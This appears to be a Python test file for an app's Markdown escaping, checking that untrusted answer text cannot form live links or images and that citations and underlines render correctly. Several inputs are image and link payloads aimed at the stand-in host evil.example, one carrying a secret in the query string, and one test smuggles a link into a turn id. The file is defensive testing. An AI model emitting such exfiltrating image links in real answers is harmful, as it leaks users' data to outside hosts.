"""Escaping: untrusted text is shown and never interpreted."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app_pages.escaping import (
    CitationMark,
    answer_markdown,
    message_markdown,
    plain_markdown,
)

LIVE_LINK = re.compile(r"(?<!\\)(?:\\\\)*!?\[[^\]]*?(?<!\\)(?:\\\\)*\]\s*[\[(:]")


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/?q=secret)",
        "[press here](http://evil.example)",
        r"\[x\](http://evil.example)",
        r"\\[x\\](http://evil.example)",
        "![x][ref]\n\n[ref]: http://evil.example/x.png",
        "`![x](http://evil.example)`",
        "\\`![x](http://evil.example)\\`",
        "a ` b\nc `[x](http://evil.example)` d",
        "a ```\n\n[x]: http://evil.example\n\n![x]\n\n```",
        "[1](http://evil.example)",
        "[1][2]: http://evil.example",
    ],
)
def test_no_form_of_link_or_image_survives(text: str) -> None:
    """Links and images of an answer are shown as they are written, in code as outside it."""
    assert not LIVE_LINK.search(answer_markdown(text).replace(":primary[", ""))


@given(st.text(alphabet="[]()!\\`:\n1ax ", max_size=40))
def test_no_combination_of_brackets_is_a_link(text: str) -> None:
    """Whatever brackets, backslashes and code marks are combined, none makes a link or an image."""
    shown = re.sub(r":primary\[\\\[(\d+)\\\]\]", r"(\1)", answer_markdown(text))
    assert not LIVE_LINK.search(shown)


def test_html_and_formulas_are_escaped() -> None:
    """HTML and dollar signs of an answer are characters."""
    shown = answer_markdown("<img src=x> costs $5 and $10")
    assert shown == r"&lt;img src=x> costs \$5 and \$10"


def test_formatting_of_an_answer_is_kept() -> None:
    """Emphasis, lists, tables, quotations and code of an answer are kept."""
    text = "**15일**\n\n- a\n\n> b\n\n| a | b |\n|---|---|\n| 1 | `c[0]` |\n\n```\nd[1]\n```"
    assert answer_markdown(text) == text


def test_citations_are_coloured_by_verdict() -> None:
    """A supported [n] has the accent colour, an unsupported one a question mark."""
    marks = [CitationMark(2, 1, True), CitationMark(9, 2, False), CitationMark(16, 3, None)]
    shown = answer_markdown("a [1], b [2], c [3], d[4] `e[1]`.", marks)
    assert shown == (
        r"a :primary[\[1\]], b :orange-background[\[2?\]], "
        r"c :gray-background[\[3\]], d\[4\] `e[1]`."
    )


def test_a_citation_opens_the_evidence_of_its_turn() -> None:
    """With the turn's id, [n] is a link to a fragment of this page; the id cannot end it."""
    shown = answer_markdown("a [1], b [2].", [CitationMark(2, 1, True)], 't-1") [x](http://e.x')
    assert shown == r"a [\[1\]](#evidence-t-1xhttpex-1), b \[2\]."


def test_an_answer_has_no_link_but_its_citations() -> None:
    """Neither a link of the model nor a copy of ours survives beside a citation."""
    text = "a [1](http://evil.example) [1](#evidence-t-9) :red[1] [x](#evidence-t-1) [1]"
    shown = answer_markdown(text, None, "t")
    assert LIVE_LINK.findall(shown.replace(r"[\[1\]](#evidence-t-1)", "(1)")) == []
    assert r"\:red[\[1\]]" in shown


def test_unsupported_sentences_are_underlined() -> None:
    """A sentence without support is wrapped, its list mark and its neighbours are not."""
    text = "- **Seven** days [1].\n- Nine days [2].\n| a | b |\n"
    marks = [CitationMark(17, 1, False), CitationMark(34, 2, True)]
    spans = [(0, 16), (42, 49)]
    shown = answer_markdown(text, marks, "t", spans)
    assert shown.startswith("- :orange[**Seven** days] [:orange-background[")
    assert ":orange[" not in shown.partition("\n")[2]


def test_an_underline_cuts_through_no_formatting() -> None:
    """A sentence that begins in bold type and ends outside of it is left as it is."""
    assert ":orange[" not in answer_markdown("**One. Two** three.", [], "t", [(0, 6)])


def test_a_question_is_shown_as_typed() -> None:
    """No character of a question is read as Markdown."""
    assert plain_markdown("# *a* [b](c)\n1. :red[x]") == (
        "\\# \\*a\\* \\[b\\]\\(c\\)  \n1\\. \\:red\\[x\\]"
    )


@pytest.mark.parametrize(
    ("text", "markdown"),
    [
        ("Run `ingest rebuild --vectors` first.", r"Run `ingest rebuild --vectors` first\."),
        ("먼저 `pip install '.[otel]'`를 실행하세요", "먼저 `pip install '.[otel]'`를 실행하세요"),
        ("`a` and `b`", "`a` and `b`"),
        ("*a* [b](c)", r"\*a\* \[b\]\(c\)"),
        ("`[b](http://c)`", r"\`\[b\]\(http\:\/\/c\)\`".replace(r"\/", "/")),
        ("``a`` `b", r"\`\`a\`\` \`b"),
        ("`a\nb`", "\\`a  \nb\\`"),
    ],
)
def test_a_message_shows_its_commands_as_code_and_the_rest_as_written(
    text: str, markdown: str
) -> None:
    """What could be more than a command stays text."""
    assert message_markdown(text) == markdown
